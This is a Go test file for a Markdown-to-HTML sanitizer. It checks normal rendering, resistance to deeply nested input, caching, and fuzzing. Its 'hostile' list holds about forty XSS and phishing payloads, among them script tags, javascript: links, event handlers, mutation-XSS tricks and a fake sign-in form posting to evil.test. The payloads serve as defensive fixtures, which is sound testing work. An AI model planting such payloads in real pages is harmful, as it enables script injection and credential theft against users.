package markdown

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

func TestHTML(t *testing.T) {
	for source, want := range map[string]string{
		"# Title\n\ntext *em* **strong** `code`":      "<h3>Title</h3>\n<p>text <em>em</em> <strong>strong</strong> <code>code</code></p>\n",
		"###### deep":                                 "<h6>deep</h6>\n",
		"|a|b|\n|-|:-:|\n|1|2|":                       "<table>\n<thead>\n<tr>\n<th>a</th>\n<th align=\"center\">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td align=\"center\">2</td>\n</tr>\n</tbody>\n</table>\n",
		"- [x] done\n- [ ] open":                      "<ul>\n<li>☑ done</li>\n<li>☐ open</li>\n</ul>\n",
		"<details><summary>more</summary>x</details>": "<details><summary>more</summary>x</details>",
		"[a](https://example.test/?a=1&b=2)":          "<p><a href=\"https://example.test/?a=1&amp;b=2\" rel=\"nofollow noreferrer\">a</a></p>\n",
		"![graph](https://example.test/x.png)":        "<p><a href=\"https://example.test/x.png\" rel=\"nofollow noreferrer\">graph</a></p>\n",
		"![](https://example.test/x.png)":             "<p><a href=\"https://example.test/x.png\" rel=\"nofollow noreferrer\">image</a></p>\n",
		"[up](../../admin)":                           "<p>up</p>\n",
		"a\u2028b":                                    "<p>a\u2028b</p>\n",
	} {
		if got := HTML(source); got != want {
			t.Errorf("%q:\n%q, want\n%q", source, got, want)
		}
	}
}

// hostile is Markdown that wants more than to be read.
var hostile = []string{
	"<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)><script>alert(1)</script></svg>",
	"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:x)",
	"<a href=\"javascript:alert(1)\">x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a href=//evil.test>x</a>", "<https://ok.test/\" onmouseover=\"alert(1)>",
	"![x](javascript:alert(1))", "![x](https://evil.test/pixel.png)", "![x](data:image/svg+xml;base64,AAAA)", "![\" onload=\"alert(1)](x)", "[x](https://ok.test \"\" onclick=alert(1)\")",
	"<iframe src=https://evil.test></iframe>", "<object data=x></object>", "<embed src=x>", "<form action=https://evil.test><input name=password><button>Sign in</button></form>",
	"<style>body{display:none}</style>", "<div style=\"position:fixed;inset:0\" class=\"panel\" id=\"run-head\">x</div>", "<link rel=stylesheet href=x>", "<meta http-equiv=refresh content=0;url=https://evil.test>",
	"<base href=https://evil.test>", "<p data-live id=toasts hidden>x</p>", "<math><mtext></p><style><img src onerror=alert(1)></style></math>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<input type=checkbox onfocus=alert(1) autofocus>", "</div></section></main><h1>Sign in again</h1>", "<table background=x><tr><td background=\"javascript:alert(1)\">", "<!--><script>alert(1)</script>-->",
	"<![CDATA[<script>alert(1)</script>]]>", "```\"><script>alert(1)</script>\nx\n```", "```<img/onerror=alert(1)\nx\n```", "<video poster=javascript:alert(1) src=https://evil.test></video>", "<details open ontoggle=alert(1)>x</details>",
}

var allowed = regexp.MustCompile(`^(p|br|hr|h[3-6]|blockquote|pre|code|em|strong|b|i|u|s|del|ins|sub|sup|kbd|samp|ul|ol|li|dl|dt|dd|table|thead|tbody|tfoot|tr|th|td|caption|details|summary|span|div|a)$`)

var allowedAttr = map[string]bool{"a href": true, "a rel": true, "th align": true, "td align": true, "th colspan": true, "td colspan": true, "th rowspan": true, "td rowspan": true, "ol start": true, "details open": true}

// harmless reads the result as a browser would and refuses all that is not known.
func harmless(t *testing.T, source, out string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return
		case html.CommentToken, html.DoctypeToken:
			t.Fatalf("%q gives %q: a comment", source, out)
		case html.StartTagToken, html.SelfClosingTagToken:
			tag := z.Token()
			if !allowed.MatchString(tag.Data) {
				t.Fatalf("%q gives %q: element %s", source, out, tag.Data)
			}
			for _, a := range tag.Attr {
				if !allowedAttr[tag.Data+" "+a.Key] {
					t.Fatalf("%q gives %q: attribute %s", source, out, a.Key)
				}
				if low := strings.ToLower(a.Val); a.Key == "href" && !strings.HasPrefix(low, "https://") && !strings.HasPrefix(low, "http://") && !strings.HasPrefix(low, "mailto:") {
					t.Fatalf("%q gives %q: a link to %s", source, out, a.Val)
				}
			}
		}
	}
}

func TestHostileMarkdownIsHarmless(t *testing.T) {
	for _, source := range hostile {
		for _, around := range []string{"", "# t\n\n", "- ", "> ", "a ", "| a |\n|---|\n| "} {
			harmless(t, around+source, HTML(around+source))
		}
	}
}

// What is made to cost time or depth comes as it was written, or laid out; it
// ends the test by its own limit, not by a clock here.
func TestDeepMarkdownEnds(t *testing.T) {
	for name, source := range map[string]string{
		"quotes": strings.Repeat(">", MaxText), "spaced quotes": strings.Repeat("> ", MaxText/2), "lists": strings.Repeat("- ", MaxText/2), "numbers": strings.Repeat("1. ", MaxText/3),
		"mixed": strings.Repeat("> - 1) ", MaxText/7), "many quoted lines": strings.Repeat(strings.Repeat("> ", 60)+"x\n", MaxText/123),
		"brackets": strings.Repeat("[", MaxText), "images": strings.Repeat("![", MaxText/2), "links": strings.Repeat("[a](", MaxText/4), "links of items": strings.Repeat("- [a](\n", MaxText/8), "links of no items": "x\n" + strings.Repeat("2) [a](\n", MaxText/9), "links of rows": "|a|\n|-|\n" + strings.Repeat("|[a](\n", MaxText/8),
		"links of no rows": "|-|\n" + strings.Repeat("|[a](\n", MaxText/8), "links of deep items": "x\n" + strings.Repeat("     - [a](\n", MaxText/13), "emphasis": strings.Repeat("*a ", MaxText/3), "strong": strings.Repeat("**a ", MaxText/4),
		"closers": strings.Repeat("a*", MaxText/2), "mixed emphasis": strings.Repeat("*_", MaxText/2), "backticks": strings.Repeat("`a``", MaxText/4), "entities": strings.Repeat("&#x", MaxText/3), "less": strings.Repeat("<", MaxText),
		"tags": strings.Repeat("<b>", MaxText/3), "divs": strings.Repeat("<div>\n\n", MaxText/7), "comments": strings.Repeat("<!--", MaxText/4), "tables": "|" + strings.Repeat("a|", 2000) + "\n|" + strings.Repeat("-|", 2000) + strings.Repeat("\n|a", 2000),
		"rules": strings.Repeat("-", MaxText), "definitions": strings.Repeat("[a]: b\n", MaxText/7), "strikes": strings.Repeat("~~a ", MaxText/4), "nested lines": nested(700), "addresses": strings.Repeat("http://a.b/", MaxText/11), "tilde": strings.Repeat("~", MaxText),
	} {
		t.Run(name, func(t *testing.T) {
			if len(source) > MaxText {
				t.Fatalf("%d bytes", len(source))
			}
			harmless(t, name, HTML(source))
		})
	}
}

func nested(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(strings.Repeat(" ", i/2) + "- a\n")
	}
	return b.String()
}

func TestCacheLaysOutOnce(t *testing.T) {
	var c Cache
	reads := 0
	for range 3 {
		out, err := c.HTML("k", func() (string, error) { reads++; return "# a", nil })
		if err != nil || out != "<h3>a</h3>\n" {
			t.Fatal(out, err)
		}
	}
	if reads != 1 {
		t.Errorf("read %d times", reads)
	}
}

func FuzzHTML(f *testing.F) {
	for _, source := range hostile {
		f.Add(source)
	}
	f.Fuzz(func(t *testing.T, source string) { harmless(t, source, HTML(source)) })
}
